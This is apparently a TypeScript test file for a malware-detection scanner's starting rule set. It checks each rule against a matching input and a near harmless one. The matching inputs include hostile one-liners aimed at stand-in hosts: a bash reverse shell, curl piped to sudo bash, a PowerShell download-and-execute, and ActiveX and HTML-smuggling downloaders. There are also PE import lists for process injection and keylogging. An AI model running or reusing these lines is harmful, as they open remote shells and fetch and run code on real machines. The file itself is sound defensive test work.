import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { defaultLimits } from '../limits.ts';
import { createRuleScanner, startingSet } from './index.ts';
import { pe } from './pe-test-kit.ts';
import { splitSource } from './split.ts';

interface Input {
  readonly bytes: Uint8Array;
  readonly name?: string;
}

const of = (...parts: readonly (string | Uint8Array | readonly number[])[]): Input => ({
  bytes: Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Uint8Array.from(part))),
  ),
});
const named = (name: string): Input => ({ bytes: Buffer.from('x'), name });
const wide = (text: string) => Buffer.from(text, 'utf16le');

// Put together here, so that this file is not taken for one.
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!', '$H+H*'];
const vba = [0x00, ...Buffer.from('Attribut'), 0x00, ...Buffer.from('e VB_Name')];
const zip = [0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x08, 0x00];
const png = [0x89, ...Buffer.from('PNG\r\n\x1a\n')];
const iend = [...Buffer.from('IEND'), 0xae, 0x42, 0x60, 0x82];
const linkHeader = [0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0x00, ...Array(12).fill(0)];
const base64 = 'QUJD'.repeat(600);
const kernel = (...names: string[]) => ({ 'KERNEL32.dll': names });
/** Bytes that look encrypted, the same in every run. */
const noise = Uint8Array.from(
  { length: 8_192 },
  (_, i) => (Math.imul(i + 1, 2_654_435_761) >>> 15) & 0xff,
);

/** For each rule an input that it matches, and one that is near to it and harmless. */
const inputs: Readonly<Record<string, readonly [matched: Input, not: Input]>> = {
  eicar_test_file: [of(...eicar, '\r\n'), of(' ', ...eicar)],
  double_extension: [named('Invoice.PDF   .exe'), named('report.final.pdf')],
  reversed_name: [named('Ann\u202egpj.exe'), named('Annjpg.exe')],
  upx_packed: [
    { bytes: pe({ sections: [{ name: 'UPX0' }, { name: 'UPX1', data: of('UPX!').bytes }] }) },
    of('about UPX!'),
  ],
  packer_section_name: [
    { bytes: pe({ sections: [{ name: '.aspack' }] }) },
    { bytes: pe({ sections: [{ name: '.text' }] }) },
  ],
  packed_section: [
    { bytes: pe({ sections: [{ name: '.text', data: noise, isRun: true }] }) },
    { bytes: pe({ sections: [{ name: '.rsrc', data: noise }] }) },
  ],
  injects_into_processes: [
    {
      bytes: pe({
        imports: kernel('VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'),
      }),
    },
    { bytes: pe({ imports: kernel('VirtualAlloc', 'WriteProcessMemory') }) },
  ],
  replaces_process: [
    {
      bytes: pe({
        imports: kernel('CreateProcessW', 'WriteProcessMemory', 'SetThreadContext', 'ResumeThread'),
      }),
    },
    { bytes: pe({ imports: kernel('CreateProcessW', 'ResumeThread') }) },
  ],
  watches_keys: [
    {
      bytes: pe({
        imports: {
          'USER32.dll': ['SetWindowsHookExA', 'GetAsyncKeyState'],
          'WS2_32.dll': ['send'],
        },
      }),
    },
    { bytes: pe({ imports: { 'USER32.dll': ['SetWindowsHookExA', 'GetAsyncKeyState'] } }) },
  ],
  archive_behind_program: [
    { bytes: pe({ sections: [{ name: '.text' }], overlay: of(zip, Buffer.alloc(100)).bytes }) },
    { bytes: pe({ sections: [{ name: '.text' }], overlay: Buffer.alloc(108) }) },
  ],
  macro_starts_by_itself: [of(vba, 'Sub AutoOpen()'), of('Sub AutoOpen()')],
  macro_dropper: [
    of('Attribute VB_Name = "M"\nSub Workbook_Open()\nCreateObject("WScript.Shell")'),
    of('Attribute VB_Name = "M"\nSub Workbook_Open()\nMsgBox "hello"'),
  ],
  pdf_launches: [
    of('%PDF-1.4\n<< /S /Launch /Win << /F (cmd.exe) >> >>'),
    of('%PDF-1.4\n<< /S /GoTo /D [0] >>'),
  ],
  pdf_script_on_opening: [
    of('%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
    of('%PDF-1.4\n<< /OpenAction [3 0 R /Fit] >>'),
  ],
  rtf_equation_object: [
    of('{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000', '4571756174696f6e2e33', '}}}'),
    of('{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000}}}'),
  ],
  archive_behind_picture: [of(png, iend, zip), of(png, zip, iend)],
  powershell_encoded: [
    of(`powershell.exe -nop -w hidden -enc ${base64.slice(0, 60)}`),
    of('powershell.exe -Encoding utf8 -File x.ps1'),
  ],
  powershell_downloads_and_runs: [
    of("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"),
    of("(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'x')"),
  ],
  shell_pipes_download: [
    of('#!/bin/sh\ncurl -s http://a.example/x | sudo bash\n'),
    of('#!/bin/sh\ncurl -s http://a.example/x -o x\n'),
  ],
  shell_to_socket: [of('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'), of('bash -i < /dev/null')],
  script_host_downloads: [
    of(
      's=new ActiveXObject("WScript.Shell");h=new ActiveXObject("MSXML2.XMLHTTP");a.SaveToFile("x");s.Run("x")',
    ),
    of('s=new ActiveXObject("WScript.Shell");s.Run("notepad")'),
  ],
  html_smuggles_file: [
    of(
      `<html><script>b=new Blob([atob("${base64}")]);a.href=URL.createObjectURL(b);a.download="x"`,
    ),
    of('<html><script>b=new Blob(["x"]);a.href=URL.createObjectURL(b);a.download="x"'),
  ],
  shortcut_runs_script: [
    of(linkHeader, wide('C:\\Windows\\System32\\mshta.exe http://a.example')),
    of(linkHeader, wide('C:\\Program Files\\Editor\\editor.exe')),
  ],
};

/** Its 544 bytes are not ours to keep here; the pipeline's test of Debian's files has it. */
const withoutInput = ['clamav_test_program'];

describe('the starting set', () => {
  const scanner = createRuleScanner();
  const set = startingSet();
  const rules = set.sources.flatMap(({ text }) => splitSource(text).rules.map(({ name }) => name));

  before(() => scanner.load({ generation: 1, sets: [set] }));

  async function matched({ bytes, name }: Input): Promise<string[]> {
    const identification = {
      mediaType: '',
      format: 'data',
      family: 'data',
      description: '',
    } as const;
    const file = { bytes, identification, ...(name === undefined ? {} : { name }) };
    const limited = (hit: unknown) => assert.fail(JSON.stringify(hit));
    const { matches } = await scanner.scan(file, { limits: defaultLimits, limited });
    return matches.map(({ rule }) => rule);
  }

  it('has an input for every rule', () => {
    assert.deepEqual(rules.toSorted(), [...Object.keys(inputs), ...withoutInput].toSorted());
  });

  for (const [rule, [positive, negative]] of Object.entries(inputs)) {
    it(`${rule} matches its input, and not the one that is near to it`, async () => {
      assert.ok((await matched(positive)).includes(rule), 'matches');
      assert.ok(!(await matched(negative)).includes(rule), 'does not');
    });
  }

  it('says of every rule in words what it found', () => {
    for (const { name, text } of set.sources) {
      const count = splitSource(text).rules.length;
      assert.equal(text.match(/^\s+description = "[^"]{10,150}"$/gm)?.length, count, name);
    }
  });
});
